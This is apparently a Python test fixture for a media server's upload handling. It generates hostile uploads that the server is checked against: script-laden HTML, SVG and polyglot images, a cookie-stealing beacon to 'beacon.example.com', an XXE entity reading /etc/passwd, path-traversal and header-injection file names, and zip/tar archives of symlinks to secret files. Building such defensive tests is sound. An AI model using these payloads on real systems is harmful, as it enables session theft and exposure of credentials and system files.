"""Uploads as an attacker makes them, and what a browser must be told of each.

What is active tells the listener that it ran, and which cookies it could read: see ``beacon()``.
"""

from __future__ import annotations

import base64
import io
import os
import tarfile
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import quote_from_bytes

import contract
from contract import Line
from hosts import Host, Probe, Site

DIRECTORY = "behaviour-hostile"
# The test's own listener, by a name that only its browser knows.
BEACON = "beacon.example.com"
# What the files say when they are active.
RAN = "ran"

INLINE = {
    name.rpartition(".")[2].lower(): mime
    for name, mime in contract.MEDIA_INLINE.items()
    if "." in name
}
NAME_BYTES = 255
# One grey pixel
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg=="
)


@dataclass(frozen=True)
class Upload:
    """A file that an attacker got into media.

    :ivar name: below the directory of these tests; any bytes but NUL.
    :ivar inline: whether a browser may show it, by its extension alone.
    :ivar is_active: whether it runs where it is served as what it claims to be.
    """

    name: bytes
    content: bytes = b""
    inline: bool = False
    is_active: bool = False
    mode: int = 0o640
    hard_link_to: bytes = b""

    @property
    def id(self) -> str:
        shown = ascii(self.name.decode("utf-8", "backslashreplace"))[1:-1]
        return shown if len(shown) <= 60 else f"{shown[:40]}...({len(self.name)} bytes)"

    def path(self, site: Site) -> str:
        return os.fsdecode(f"{site.media_root}/{DIRECTORY}/".encode() + self.name)

    def url(self, site: Site) -> str:
        return f"{site.media_url}{DIRECTORY}/{quote_from_bytes(self.name)}"


def beacon(name: str) -> str:
    """A script that tells of itself: to the page around it, and to the listener."""
    return f"top.{RAN}=1;new Image().src='http://{BEACON}/{name}?'+document.cookie"


def markup(name: str) -> bytes:
    return f"<script>{beacon(name)}</script>".encode()


def _svg(name: str, inner: str, attributes: str = "", before: str = "") -> Upload:
    opened = f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>'
    return Upload(name.encode(), f"{before}{opened}{inner}</svg>".encode(), is_active=True)


def _page(name: str, before: bytes = b"<!doctype html><title>x</title>") -> Upload:
    return Upload(name.encode(), before + markup(name), is_active=True)


def active() -> list[Upload]:
    """Files that run, if they are served as what they are."""
    xhtml = "http://www.w3.org/1999/xhtml"
    script = f'<script xmlns="{xhtml}">'
    return [
        *map(_page, ("page.html", "page.htm", "page.shtml", "PAGE.HTML", "picture.png.html")),
        *map(_page, ("page.html.", "no-extension", "page.unknown-type", "page.html;.jpg.html")),
        Upload(
            b"page.xhtml",
            f'<html xmlns="{xhtml}"><head>{script}{beacon("page.xhtml")}</script></head></html>'.encode(),
            is_active=True,
        ),
        _svg("script.svg", f"<script>{beacon('script.svg')}</script>"),
        _svg("onload.svg", "", f'onload="{beacon("onload.svg")}"'),
        _svg(
            "foreign.svg",
            f'<foreignObject width="9" height="9">{script}{beacon("foreign.svg")}</script></foreignObject>',
        ),
        _svg(
            "entity.svg",
            f"<script>{beacon('entity.svg')}</script><text>&x;&y;</text>",
            before=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "http://{BEACON}/y">]>',
        ),
        Upload(
            b"sheet.xml",
            b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?>'
            + f"<x>{script}{beacon('sheet.xml')}</script></x>".encode(),
            is_active=True,
        ),
        Upload(b"script.js", beacon("script.js").encode(), is_active=True),
        Upload(b"module.mjs", beacon("module.mjs").encode(), is_active=True),
        Upload(
            b"style.css",
            f"body{{background:url(http://{BEACON}/style.css)}}".encode(),
            is_active=True,
        ),
        # Pictures to those who look at the head, pages or scripts to those who read on.
        Upload(
            b"polyglot.gif.js", b"GIF89a=0;" + beacon("polyglot.gif.js").encode(), is_active=True
        ),
        Upload(b"polyglot.png", PNG + markup("polyglot.png"), inline=True, is_active=True),
        Upload(
            b"polyglot.jpg",
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + markup("polyglot.jpg"),
            inline=True,
            is_active=True,
        ),
        Upload(b"polyglot.gif", b"GIF89a" + markup("polyglot.gif"), inline=True, is_active=True),
        Upload(b"text.txt", markup("text.txt"), inline=True, is_active=True),
        _page("polyglot.pdf.html", b"%PDF-1.4\n"),
    ]


def passive() -> Iterator[Upload]:
    """Files that no browser runs, or that only their names make dangerous."""
    page = markup("passive")
    yield Upload(
        b"sheet.xsl",
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        b'<xsl:template match="/"><html>'
        + markup("sheet.xml")
        + b"</html></xsl:template></xsl:stylesheet>",
    )
    yield Upload(
        b"action.pdf",
        b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
    )
    for name in ("shell.php", "shell.PhP", "shell.php.jpg.php", "run.cgi", "run.sh", "run.py"):
        yield Upload(name.encode(), b"#!/bin/sh\necho executed\n", mode=0o750)
    yield Upload(b"run.png", b"#!/bin/sh\necho executed\n", inline=True, mode=0o750)
    for name in ("web.config", "crossdomain.xml", "service-worker.js", "robots.txt"):
        yield Upload(name.encode(), page, inline=name.endswith(".txt"))
    for name in ("archive.svgz", "page.html.gz", "page.mht", "page.hta", "applet.swf", "x.jar"):
        yield Upload(name.encode(), page)
    yield from _names(page)


def _names(page: bytes) -> Iterator[Upload]:
    attached = (
        # What ends a line or a string somewhere.
        *(b"line\nbreak.html", b"carriage\rreturn.html", b"header\r\nSet-Cookie: a=b.html"),
        *(b"picture.png\n", b"picture.png\r", b"picture.png\r\n", b"picture.png\n.html"),
        *(b"picture.png ", b"picture.png.", b"picture.png. .", b"picture.html .", b" leading.html"),
        *(
            b"nul%00.html",
            b"page.html%00.html",
            b"picture.png%00",
            b"bell\x07\x01.html",
            b"tab\t.html",
        ),
        *(b'quote".html', b"quote'.html", b"semi;colon.html", b"back\\slash.html", b"pipe|x.html"),
        *(b"$uri.html", b"$document_root.html", b"{brace}.html", b"<b>.html", b"`id`.html"),
        *(b"-rf.html", b"*.html", b"?.html", b"#.html", b"a&b=c.html", b"~root.html", b"%n%s.html"),
        # A step up, spelled so that a second decoding or another system would take it.
        *(b"..%2f..%2fetc%2fpasswd", b"..%252fetc%252fpasswd", b"%2e%2e%2fx.html"),
        *(b"x..\\..\\etc\\passwd", b"x\xc0\xae\xc0\xae\xc0\xafpasswd", b"x\xe0\x80\xae.html"),
        *(
            "x\uff0e\uff0e\uff0fetc\uff0fpasswd".encode(),
            "x\u2215..\u2215passwd".encode(),
            b"\xff\xfe.html",
        ),
        # The name that is shown is not the name that is.
        *("x\u202egnp.html".encode(), "x\u200b.html".encode(), "page.h\u0442ml".encode()),
        *(
            "\uff50\uff41\uff47\uff45\uff0ehtml".encode(),
            "pic.png\u2028".encode(),
            "pic.\uff50ng".encode(),
            b"picture.pn\xc7",
        ),
        *(
            b"h" * (NAME_BYTES - 5) + b".html",
            b"n" * NAME_BYTES,
            b"\n" * (NAME_BYTES - 5) + b".html",
        ),
        *(b"folder.png/index.html", b"deep/er/page.html", b"_/page.html", b"media/page.html"),
        *(b"folder.png/picture.png.", b"con.html", b"aux", b"picture.png::$DATA", b"x.p"),
    )
    # A dotfile is refused, whatever follows; these merely have dots.
    yield from (Upload(name, page) for name in attached if not is_hidden(name))
    shown = (
        *(b"line\nbreak.png", b"PICTURE.PNG", b"picture.PnG", b"page.html.png", b"shell.php.png"),
        *(b"%2e%2e.png", b"percent%41.png", b"back\\slash.png", b'quote".png', b"nul%00.png"),
        *("x\u202elmth.png".encode(), b"p" * (NAME_BYTES - 4) + b".png", b"\xff.png", b"a b+c.png"),
        *(b"folder.png/picture.png", b"folder.html/picture.png", b"x\xc0\xae\xc0\xae\xc0\xaf.png"),
    )
    yield from (Upload(name, page, inline=True) for name in shown)
    contents = {each.name: each.content for each in active()}
    for name, other in ((b"hard.png", b"page.html"), (b"hard.html", b"text.txt")):
        inline = name.endswith(b".png")
        yield Upload(name, contents[other], inline=inline, hard_link_to=other)


def is_hidden(name: bytes) -> bool:
    return any(part.startswith(b".") for part in name.split(b"/"))


HIDDEN = (
    *(b".htaccess", b".user.ini", b".htpasswd", b".env", b".git/config", b".png", b".html"),
    *(
        b"...",
        b"..png",
        b"..%2f..%2fetc",
        b".\n.png",
        b"deep/.hidden/picture.png",
        b".well-known/x.txt",
    ),
    *(b".. ", b"..\\x.png", ".\u202egnp".encode()),
)


def hidden() -> list[Upload]:
    """Dotfiles: never to come out."""
    return [Upload(name, contract.SECRET) for name in HIDDEN]


def links(site: Site) -> dict[bytes, str]:
    """Symlinks by their names; what each leads to must not come out, whatever is asked below it."""
    own = f"{site.media_root}/{DIRECTORY}"
    return {
        b"passwd.png": "/etc/passwd",
        b"env.txt": site.env_file,
        b"code.txt": f"{site.app_root}/secret.txt",
        b"static.txt": f"{site.static_root}/secret.txt",
        b"relative.txt": "../../secret.txt",
        b"climbing.txt": "../" * 12 + "etc/passwd",
        b"etc": "/etc",
        b"app": site.app_root,
        b"above": "..",
        b"root.png": "/",
        b"itself": ".",
        b"dangling.png": "/nowhere/at/all",
        b"loop.png": "loop.png",
        b"chain-1.png": "chain-2.png",
        b"chain-2.png": "chain-3.png",
        b"chain-3.png": "/etc/passwd",
        b"to-a-neighbour.png": "polyglot.png",
        b"absolute-neighbour.png": f"{own}/polyglot.png",
        b"hidden.png": ".htaccess",
        b"environ.txt": "/proc/self/environ",
        b"endless.png": "/dev/zero",
        b"line\nbreak-link.png": "/etc/passwd",
    }


BELOW = ("", "/", "/passwd", "/secret.txt", "/polyglot.png", "/../secret.txt", "/etc/passwd")


def archive(site: Site) -> bytes:
    """A zip whose entries are links, as zip --symlinks makes them."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        for name, target in links(site).items():
            entry = zipfile.ZipInfo(os.fsdecode(b"unzipped-" + name))
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            file.writestr(entry, target)
    return packed.getvalue()


def tarball(site: Site) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as file:
        for name, target in links(site).items():
            entry = tarfile.TarInfo(os.fsdecode(b"untarred-" + name))
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            file.addfile(entry)
    return packed.getvalue()


# As an app might, that trusts what it is sent: links become links.
EXTRACT = r"""
import io, os, sys, tarfile, zipfile
directory, size, rest = sys.stdin.buffer.read().split(b"\n", 2)
size = int(size)
os.umask(0o027)
os.chdir(directory)
with zipfile.ZipFile(io.BytesIO(rest[:size])) as packed:
    for entry in packed.infolist():
        if entry.external_attr >> 28 == 0o12:
            os.symlink(packed.read(entry), entry.filename)
with tarfile.open(fileobj=io.BytesIO(rest[size:])) as packed:
    for entry in packed:
        os.symlink(entry.linkname, entry.name)
"""


def extract(site: Site, host: Host) -> list[bytes]:
    """Unpack both archives as the app's user; the names of the links that came of it."""
    directory = f"{site.media_root}/{DIRECTORY}"
    names = [prefix + name for prefix in (b"unzipped-", b"untarred-") for name in links(site)]
    host.placed += [os.fsdecode(f"{directory}/".encode() + name) for name in names]
    zipped = archive(site)
    request = f"{directory}\n{len(zipped)}\n".encode() + zipped + tarball(site)
    host.python(EXTRACT, request, site.app_user)
    return names


def probes(site: Site) -> list[Probe]:
    """All of these as files and links on the host, the directory's own files first."""
    base = f"{site.media_root}/{DIRECTORY}/".encode()
    found = [
        Probe(
            each.path(site),
            each.content,
            by_app=True,
            mode=each.mode,
            hard_link_to=os.fsdecode(base + each.hard_link_to) if each.hard_link_to else "",
        )
        for each in (*active(), *passive(), *hidden())
    ]
    found += [
        Probe(os.fsdecode(base + name), link_to=target, by_app=True)
        for name, target in links(site).items()
    ]
    return found


def lines(site: Site, upload: Upload) -> list[Line]:
    """What each answer for a file must show: whole, in part, revalidated, and its missing sibling."""
    url, size = upload.url(site), len(upload.content)
    extension = upload.name.rpartition(b".")[2].lower().decode("ascii", "replace")
    mime = INLINE[extension] if upload.inline else contract.OCTETS
    disposition = {} if upload.inline else {"Content-Disposition": "attachment"}
    # What a 304 does not say stays as the first answer said it: RFC 9111, 3.2.
    always = {**contract.MEDIA_FOUND, "ETag": contract.ETAG}
    never = ("Set-Cookie", "Location", *(("Content-Disposition",) if upload.inline else ()))
    found = {**always, **disposition, "Content-Type": mime}
    part = {**found, "Content-Range": f"bytes 1-4/{size}"}
    missing = url[: -len(quote_from_bytes(upload.name))] + quote_from_bytes(_sibling(upload.name))
    absent = ("Set-Cookie", "Content-Disposition", "Cache-Control", "ETag", "Location")

    def line(what: str, target: str, status: int, present: dict[str, str], body: bytes) -> Line:
        return Line(f"{what} {upload.id}", target, (status,), present, never, body)

    return [
        line("200", url, 200, {**found, "Content-Length": str(size)}, upload.content),
        Line(
            "HEAD", url, (200,), {**found, "Content-Length": str(size)}, never, b"", method="HEAD"
        ),
        Line("206", url, (206,), part, never, upload.content[1:5], send={"Range": "bytes=1-4"}),
        Line("304 by ETag", url, (304,), always, never, b"", revalidate="If-None-Match"),
        Line("304 by time", url, (304,), always, never, b"", revalidate="If-Modified-Since"),
        Line("404", missing, (404,), contract.MEDIA_ALWAYS, absent, body_has=contract.NGINX_PAGE),
        *refused(f"{url}/", "below it"),
    ]


def _sibling(name: bytes) -> bytes:
    """A name of the same length and extension that nobody has."""
    directory, slash, base = name.rpartition(b"/")
    return directory + slash + b"=" + base[1:]


def refused(target: str, what: str) -> Sequence[Line]:
    never = ("Set-Cookie", "Content-Disposition", "Cache-Control", "ETag", "Location")
    status = (403, 404)
    return [Line(what, target, status, contract.MEDIA_ALWAYS, never, body_has=contract.NGINX_PAGE)]
